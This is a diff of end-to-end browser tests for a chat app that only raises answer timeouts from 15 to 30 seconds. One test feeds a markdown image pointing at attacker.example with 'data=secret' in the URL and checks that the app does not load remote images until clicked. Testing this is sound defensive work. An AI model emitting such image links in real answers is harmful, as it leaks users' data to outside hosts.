@@ -72,7 +72,7 @@ test('stream, stop, delete, export as PNG and switch groups', async ({ page, req
   await input.fill('First question about tables');
   await input.press('Enter');
   const answers = page.locator('[data-testid="chat-message"][data-role="assistant"]');
-  await expect(answers.last()).toHaveAttribute('data-state', 'done', { timeout: 15_000 });
+  await expect(answers.last()).toHaveAttribute('data-state', 'done', { timeout: 30_000 });
   await expect(answers.last()).toContainText('A formula');
   await expect(answers.last().locator('.katex').first()).toBeVisible();
   const seen = await lengths();
@@ -144,7 +144,7 @@ test('stream, stop, delete, export as PNG and switch groups', async ({ page, req
   await expect(page.getByTestId('chat-empty')).toBeVisible();
   await input.fill('Other topic entirely');
   await input.press('Enter');
-  await expect(answers.last()).toHaveAttribute('data-state', 'done', { timeout: 15_000 });
+  await expect(answers.last()).toHaveAttribute('data-state', 'done', { timeout: 30_000 });
   await expect(page.getByTestId('chat-group')).toHaveCount(2);
   const messages = page.getByTestId('chat-messages');
   await expect(messages).toContainText('Other topic entirely');
@@ -196,7 +196,7 @@ test('a chat from an app: fixed-role hint, and the app’s system prompt is used
   expect(body.systemMessage).toBeUndefined();
 
   const answer = page.locator('[data-testid="chat-message"][data-role="assistant"]').last();
-  await expect(answer).toHaveAttribute('data-state', 'done', { timeout: 15_000 });
+  await expect(answer).toHaveAttribute('data-state', 'done', { timeout: 30_000 });
   await expect(answer).toContainText('Persona in use: Translator');
   await expect(answer).toContainText(app.systemPrompt.slice(0, 30));
 
@@ -232,7 +232,7 @@ test('a picture of another site in an answer loads only on a click, through the 
   await input.fill('![leak](https://attacker.example/x.png?data=secret)');
   await input.press('Enter');
   const answer = page.locator('[data-testid="chat-message"][data-role="assistant"]').last();
-  await expect(answer).toHaveAttribute('data-state', 'done', { timeout: 15_000 });
+  await expect(answer).toHaveAttribute('data-state', 'done', { timeout: 30_000 });
   const button = answer.getByTestId('remote-image');
   await expect(button).toContainText('Show the picture from attacker.example');
   await expect(answer.locator('img')).toHaveCount(0);
